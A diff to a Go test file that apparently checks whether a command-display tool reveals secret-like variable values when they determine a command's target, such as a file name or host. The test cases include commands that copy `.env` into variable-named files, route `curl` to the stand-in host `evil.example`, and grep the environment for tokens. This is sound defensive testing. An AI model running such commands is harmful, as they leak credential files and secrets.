@@ -21,6 +21,8 @@ func TestSecretVariableShownWhereItDecides(t *testing.T) {
 		{`MY_SECRET=tmpx9payloadQ1w2e3r4; tee "${MY_SECRET}" < .env`, "tmpx9payloadQ1w2e3r4"},
 		{"export MY_SECRET=tmpx9payloadQ1w2e3r4\ngo test ./...\n\"$MY_SECRET\"", "tmpx9payloadQ1w2e3r4"},
 		{`API_TOKEN=evil.example; curl -u "me:x" "https://$API_TOKEN/"`, "evil.example"},
+		{"API_TOKEN=wr1tesHereQ9x7Lm\nenv | grep TOKEN | cut -d= -f2 | xargs -I{} cp .env {}", "wr1tesHereQ9x7Lm"},
+		{`API_TOKEN=wr1tesHereQ9x7Lm; set | grep TOKEN`, "wr1tesHereQ9x7Lm"},
 	} {
 		if s := shownExec(t, map[string]any{"cmd": c.cmd}); !strings.Contains(s, c.want) {
 			t.Errorf("%s\nis shown without %s:\n%s", c.cmd, c.want, s)
@@ -37,6 +39,8 @@ func TestSecretVariableShownWhereItDecides(t *testing.T) {
 		`PW_SECRET=` + v + `; curl -u admin:$PW_SECRET https://api.example/`,
 		`API_TOKEN=` + v + `; curl "https://api.example/v1?token=$API_TOKEN"`,
 		`API_TOKEN=` + v + ` ./deploy.sh`,
+		`set -e; API_KEY=` + v + `; curl -H "X-Api-Key: $API_KEY" https://api.example/`,
+		`API_KEY=` + v + ` python evaluate.py --env prod`,
 	} {
 		if s := shownExec(t, map[string]any{"cmd": cmd}); strings.Contains(s, v) {
 			t.Errorf("control: %s\nshows the secret:\n%s", cmd, s)
